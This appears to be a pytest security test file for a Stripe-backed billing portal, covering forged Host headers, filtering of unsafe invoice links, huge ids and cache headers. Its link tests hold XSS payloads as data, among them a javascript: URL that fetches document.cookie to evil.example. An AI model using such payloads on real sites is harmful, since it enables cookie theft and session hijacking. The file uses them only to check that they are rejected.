"""Requests that must not reach the money: forged Host headers, unsafe links from Stripe, huge ids, caches."""
from datetime import datetime, timezone

import pytest
import requests
from sqlalchemy import select

from billing.audit import Origin
from billing.gateway.types import Invoice, link
from billing.models import KernelCheckoutSession, KernelInvoice
from billing.sync import sync_invoice
from portal.extensions import db
from tests.helpers.clients import signed_in_client
from tests.helpers.data import short_session

PUBLIC = "https://billing.kernel.example"
HUGE = "99999999999999999999999"


# ---------------------------------------------------------------- Host header and PORTAL_BASE_URL


def test_a_host_that_is_not_trusted_is_refused(client, owner):
    assert client.get("/login").status_code == 200
    assert client.get("/login", headers={"Host": "evil.example"}).status_code == 400
    response = client.post("/login", headers={"Host": "evil.example"},
                           data={"email": owner.email, "password": "correct-horse-battery"})
    assert response.status_code == 400 and "Set-Cookie" not in response.headers


@pytest.fixture
def public_portal(app_config):
    """The portal configured as production is: a public base URL, reached here (test client) as localhost."""
    app_config.update(PORTAL_BASE_URL=PUBLIC, TRUSTED_HOSTS=["billing.kernel.example", "localhost"])


def _stripe_session(sandbox, stripe_session_id: str) -> dict:
    response = requests.get(f"{sandbox.url}/v1/checkout/sessions/{stripe_session_id}",
                            headers={"Authorization": "Bearer sk_test_sandbox"}, timeout=10)
    response.raise_for_status()
    return response.json()


def test_checkout_return_urls_come_from_the_base_url_not_the_host_header(public_portal, billing_app, sandbox,
                                                                        owner, tenant):
    client = signed_in_client(billing_app, owner)
    # The request comes in as http://localhost/...; Stripe is still told the public address.
    response = client.post(f"/apps/{tenant.id}/billing/checkout", data={"plan": "pro", "attempt": "attempt-host-1"})
    assert response.status_code == 303
    with short_session(billing_app) as session:
        stripe_id = session.scalar(select(KernelCheckoutSession.stripe_session_id))
    remote = _stripe_session(sandbox, stripe_id)
    assert remote["success_url"] == f"{PUBLIC}/billing/success?session_id={{CHECKOUT_SESSION_ID}}"
    assert remote["cancel_url"] == f"{PUBLIC}/billing/cancel?app_id={tenant.id}"

    forged = client.post(f"/apps/{tenant.id}/billing/checkout", data={"plan": "pro", "attempt": "attempt-host-2"},
                         headers={"Host": "evil.example"})
    assert forged.status_code == 400
    with short_session(billing_app) as session:
        assert len(session.scalars(select(KernelCheckoutSession)).all()) == 1  # nothing opened for the forgery


# ---------------------------------------------------------------- links from Stripe


@pytest.mark.parametrize("url,kept", [
    ("https://invoice.stripe.com/i/acct_1/in_1", True),
    ("http://127.0.0.1:12111/invoice/in_1", True),
    ("http://localhost:12111/invoice/in_1/pdf", True),
    ("http://invoice.stripe.com/i/in_1", False),  # plain http off this machine
    ("javascript:alert(document.cookie)", False),
    ("JaVaScRiPt:alert(1)", False),
    ("data:text/html;base64,PHNjcmlwdD4=", False),
    ("//evil.example/x", False),
    ("https://user:pass@evil.example/", False),
    (" https://invoice.stripe.com/x", False),
    ("https://invoice.stripe.com/\nx", False),
    ("", False),
    (None, False),
    (42, False),
])
def test_only_https_or_loopback_http_links_survive(url, kept):
    assert link(url) == (url if kept else None)


def test_a_javascript_link_in_a_signed_payload_is_dropped_when_stored(app, owner, tenant):
    moment = int(datetime(2026, 11, 1, tzinfo=timezone.utc).timestamp())
    payload = {
        "id": "in_evil", "object": "invoice", "customer": None, "status": "open", "number": "ACME-0009",
        "billing_reason": "manual", "amount_due": 100, "amount_paid": 0, "amount_remaining": 100, "total": 100,
        "currency": "brl", "created": moment, "period_start": moment, "period_end": moment,
        "hosted_invoice_url": "javascript:fetch('//evil.example/'+document.cookie)",
        "invoice_pdf": "data:application/pdf;base64,AAAA", "status_transitions": {}, "lines": {"data": []},
    }
    with short_session(app) as session:
        from billing.models import App
        session.get(App, tenant.id).stripe_customer_id = "cus_acme_links"
    payload["customer"] = "cus_acme_links"
    with app.app_context():
        sync_invoice(db.session, Invoice.from_stripe(payload), observed_at=moment,
                     origin=Origin(actor="webhook", correlation_id="evt_links"))
        db.session.commit()
        row = db.session.scalar(select(KernelInvoice).where(KernelInvoice.stripe_invoice_id == "in_evil"))
        assert row is not None and row.hosted_invoice_url is None and row.invoice_pdf is None
        invoice_id = row.id
    page = signed_in_client(app, owner).get(f"/apps/{tenant.id}/invoices/{invoice_id}").get_data(as_text=True)
    assert "ACME-0009" in page and "javascript:" not in page and "data:application" not in page


# ---------------------------------------------------------------- huge ids, caches


def test_huge_ids_in_a_query_string_are_a_404(app, superadmin_client):
    assert superadmin_client.get(f"/billing/cancel?app_id={HUGE}").status_code == 404
    assert superadmin_client.get(f"/admin/audit?app_id={HUGE}").status_code == 404


def test_signed_in_pages_and_api_answers_are_not_stored(app, client, auth, owner, tenant):
    auth.login(owner.email)
    for path in ("/dashboard", f"/apps/{tenant.id}/billing", "/api/v1/apps", "/account"):
        response = client.get(path)
        assert response.status_code == 200, path
        assert response.headers["Cache-Control"] == "no-store", path
    static = client.get("/static/css/app.css")
    static.close()
    assert "no-store" not in static.headers.get("Cache-Control", "")
